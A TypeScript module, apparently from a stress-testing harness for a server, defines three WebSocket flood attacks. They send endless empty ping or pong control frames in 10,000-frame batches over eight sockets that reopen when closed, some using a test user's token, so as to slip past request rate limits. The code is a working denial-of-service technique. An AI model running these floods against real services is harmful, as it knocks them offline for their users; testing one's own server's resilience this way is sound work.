import type { Attack, Target } from "../attack.ts";
import { keepOpen, type Line } from "../clients/connections.ts";
import { socketTalk, tokensOf } from "../clients/sockets.ts";
import type { Tally } from "../clients/tally.ts";

const sockets = 8;
const framesAtOnce = 10_000;

const opcodes = { ping: 0x89, pong: 0x8a } as const;

/** Sends control frames as fast as the kernel takes them, on sockets that are reopened when closed. */
function flood({ url }: Target, tally: Tally, kind: keyof typeof opcodes, token?: string): void {
  const frame = Buffer.from([opcodes[kind], 0x80, 0, 0, 0, 0]);
  const wave = Buffer.concat(Array.from({ length: framesAtOnce }, () => frame));
  const write = (line: Line) => {
    tally.count("bytes written", wave.length);
    while (line.write(wave)) tally.count("bytes written", wave.length);
  };
  keepOpen({
    url,
    tally,
    count: sockets,
    talk() {
      let isUpgraded = false;
      const talk = socketTalk(url, tally, {
        ...(token !== undefined && { token }),
        onUpgrade(line) {
          isUpgraded = true;
          write(line);
        },
      });
      return { ...talk, onDrain: (line) => isUpgraded && write(line) };
    },
  });
}

/** Floods of frames that are not requests, and so escape the limits on requests. */
export const floodAttacks: readonly Attack[] = [
  {
    name: "pongs",
    row: 9,
    mustBeTold: true,
    who: "anyone: endless empty pongs on 8 WebSockets",
    run: (target, tally) => flood(target, tally, "pong"),
  },
  {
    name: "pings",
    row: 9,
    mustBeTold: true,
    who: "anyone: endless empty pings on 8 WebSockets",
    run: (target, tally) => flood(target, tally, "ping"),
  },
  {
    name: "user-pongs",
    row: 9,
    mustBeTold: true,
    who: "one user token: endless empty pongs on 8 WebSockets",
    async run(target, tally) {
      const [token] = await tokensOf(["member-0"]);
      flood(target, tally, "pong", token);
    },
  },
];
